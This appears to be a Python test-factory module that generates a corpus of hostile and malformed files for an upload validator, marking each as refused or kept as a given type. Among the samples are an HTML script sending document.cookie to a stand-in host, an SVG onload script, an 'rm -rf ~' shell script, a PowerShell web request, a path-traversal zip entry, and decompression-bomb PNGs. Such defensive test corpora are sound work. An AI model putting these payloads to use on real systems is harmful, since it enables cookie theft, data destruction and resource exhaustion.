"""At least 120 nasty files, by family, made by code. Each says whether it may be kept, and as what; never as a lie.

`kept` is None when the file must be refused, or the only kind it may be kept as. Nothing here comes from anybody.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image

from tests.factories import acting_pdfs, files

Make = Callable[[], bytes]

HEADS = {
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "png": b"\x89PNG\r\n\x1a\n",
    "webp": b"RIFF\x40\x00\x00\x00WEBPVP8 ",
}


@dataclass(frozen=True, slots=True)
class Nasty:
    """A file, and the one kind it may be kept as; None: it is refused."""

    make: Make
    kept: str | None = None


def zipped(*names: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return made.getvalue()


HTML = b"<!doctype html><html><script>fetch('//invente.example/'+document.cookie)</script></html>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
OTHERS: dict[str, Make] = {
    "a page of the web": lambda: HTML,
    "a page of the web after spaces": lambda: b"\n\t " + HTML,
    "a drawing that runs": lambda: SVG,
    "a drawing squeezed": lambda: b"\x1f\x8b\x08\x00" + zlib.compress(SVG),
    "an archive": lambda: zipped("a.txt"),
    "an archive that climbs": lambda: zipped("../../etc/passwd"),
    "a text document": lambda: zipped("[Content_Types].xml", "word/document.xml"),
    "a workbook": lambda: zipped("[Content_Types].xml", "xl/workbook.xml"),
    "a program for Android": lambda: zipped("AndroidManifest.xml", "classes.dex"),
    "a program for Windows": lambda: b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(200),
    "a program for Linux": lambda: b"\x7fELF\x02\x01\x01" + bytes(200),
    "a program for a Mac": lambda: b"\xcf\xfa\xed\xfe" + bytes(200),
    "a script": lambda: b"#!/bin/sh\nrm -rf ~\n",
    "a script of PowerShell": lambda: b"Invoke-WebRequest invente.example\r\n",
    "an old document with macros": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "a rich text": lambda: b"{\\rtf1\\object\\objdata 00}",
    "a PostScript": lambda: b"%!PS-Adobe-3.0\n(x) run\n",
    "a film": lambda: b"\x00\x00\x00\x20ftypisom" + bytes(200),
    "a sound": lambda: b"ID3\x04" + bytes(200),
    "a GIF": lambda: files.saved(files.picture(), "GIF"),
    "an animated GIF": lambda: files.saved(
        files.picture(), "GIF", save_all=True, append_images=[files.noise(9, 9)]
    ),
    "a BMP": lambda: files.saved(files.picture(), "BMP"),
    "a TIFF": lambda: files.saved(files.picture(), "TIFF"),
    "an icon": lambda: files.saved(files.picture(64, 64), "ICO"),
    "a JPEG 2000": lambda: b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(200),
    "a HEIC": lambda: b"\x00\x00\x00\x18ftypheic" + bytes(200),
    "an AVIF": lambda: b"\x00\x00\x00\x18ftypavif" + bytes(200),
    "a base": lambda: b"SQLite format 3\x00" + bytes(200),
    "some JSON": lambda: b'{"type": "application/pdf"}',
    "a form in parts": lambda: b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n%PDF-1.7\r\n--x--",
    "a PDF written in base64": lambda: b"JVBERi0xLjcKJeLjz9M=",
    "a link of Windows": lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(200),
    "a mark of order, then a PDF": lambda: b"\xef\xbb\xbf" + files.pdf(),
}
EMPTY: dict[str, Make] = {
    "nothing": lambda: b"",
    "one byte": lambda: b"%",
    "zeros": lambda: bytes(4096),
    "noise": lambda: os.urandom(4096),
    "spaces": lambda: b" " * 4096,
}


def lying() -> dict[str, Make]:
    """Every first bytes we keep, followed by what is something else."""
    inside: dict[str, Make] = {
        "a page of the web": lambda: HTML,
        "a program": lambda: b"MZ" + bytes(300),
        "an archive": lambda: zipped("a.txt"),
        "noise": lambda: os.urandom(6000),
        "nothing": lambda: b"",
        "zeros": lambda: bytes(6000),
    }
    return {
        f"{what} under the first bytes of a {kind}": (lambda head=head, make=make: head + make())
        for kind, head in HEADS.items()
        for what, make in inside.items()
    }


def cut() -> dict[str, Make]:
    """Good files, cut."""
    good: dict[str, bytes] = {
        "pdf": files.pdf(2, 20_000),
        "jpeg": files.saved(files.noise(300, 300), "JPEG"),
        "png": files.saved(files.noise(120, 120), "PNG"),
        "webp": files.saved(files.noise(300, 300), "WEBP"),
    }
    return {
        f"a {kind} cut at {part} %": (lambda body=body, part=part: body[: len(body) * part // 100])
        for kind, body in good.items()
        for part in (5, 30, 60, 85)
    }


def damaged() -> dict[str, Make]:
    """Bytes turned over in the middle of good files: read as what they are, or refused."""

    def turned(body: bytes, at: int) -> bytes:
        return body[:at] + bytes(255 - one for one in body[at : at + 40]) + body[at + 40 :]

    good = {"pdf": files.pdf(2, 8_000), "jpeg": files.jpeg(), "png": files.png(), "webp": files.webp()}
    return {
        f"a {kind} turned over at {part} %": (
            lambda body=body, part=part: turned(body, max(16, len(body) * part // 100))
        )
        for kind, body in good.items()
        for part in (10, 50)
    }


def png_of(width: int, height: int, extra: bytes = b"", rows: bytes = b"") -> bytes:
    """A PNG that announces what it wants."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(rows or bytes(1000), 9))
    return HEADS["png"] + chunk(b"IHDR", header) + extra + body + chunk(b"IEND", b"")


def bomb_text() -> bytes:
    """A PNG whose comment opens into a hundred million letters."""
    told = b"Comment\x00\x00" + zlib.compress(b"a" * 100_000_000, 9)
    chunk = struct.pack(">I", len(told)) + b"zTXt" + told + struct.pack(">I", zlib.crc32(b"zTXt" + told))
    return png_of(4, 4, extra=chunk, rows=bytes(52))


BOMBS: dict[str, Make] = {
    "a PNG of 3.6 thousand million points": files.png_bomb,
    "a PNG that lies on its size": lambda: png_of(6000, 6000),
    "a PNG without width": lambda: png_of(0, 10),
    "a PNG as wide as can be": lambda: png_of(2**31 - 1, 1),
    "a comment of a hundred million letters": bomb_text,
    "a photo of 60 million points": lambda: files.jpeg(10_000, 6_000),
    "a line of 60,000 points": lambda: files.jpeg(60_000, 700),
    "an animated WebP": files.animated_webp,
    "an animated PNG": files.animated_png,
}


def gps() -> bytes:
    return files.talkative_jpeg()


def mpo() -> bytes:
    """Two pictures in one file, as phones write depth: the first one is the photo."""
    return files.saved(files.picture(), "MPO", save_all=True, append_images=[Image.new("RGB", (64, 40))])


POLYGLOTS: dict[str, tuple[Make, str]] = {
    "a JPEG that is also a page and an archive": (files.polyglot, "jpeg"),
    "a JPEG followed by an archive": (lambda: files.jpeg() + zipped("a.exe"), "jpeg"),
    "a PNG followed by a script": (lambda: files.png() + HTML, "png"),
    "a WebP followed by an archive": (lambda: files.webp() + zipped("a.exe"), "webp"),
    "a JPEG whose comment is a script": (lambda: files.jpeg(comment=HTML), "jpeg"),
    "a JPEG with its place and its maker": (gps, "jpeg"),
    "a PNG with words": (files.talkative_png, "png"),
    "two pictures in one": (mpo, "jpeg"),
    "a PDF that begins as an archive would end": (lambda: files.pdf() + b"PK\x05\x06" + bytes(18), "pdf"),
    "a PDF followed by a page": (lambda: files.pdf() + b"\n" + HTML, "pdf"),
}


def family() -> dict[str, Nasty]:
    """The whole corpus, by name."""
    refused = OTHERS | EMPTY | lying() | cut() | BOMBS | acting_pdfs.ACTING | acting_pdfs.BROKEN
    told = {name: Nasty(make) for name, make in refused.items()}
    told |= {name: Nasty(make, name.split()[1]) for name, make in damaged().items()}
    return told | {name: Nasty(make, kind) for name, (make, kind) in POLYGLOTS.items()}


def locked(**options: bool) -> bytes:
    allowed = pikepdf.Permissions(**options)
    return files.pdf(encryption=pikepdf.Encryption(owner="proprietaire", user="", allow=allowed))
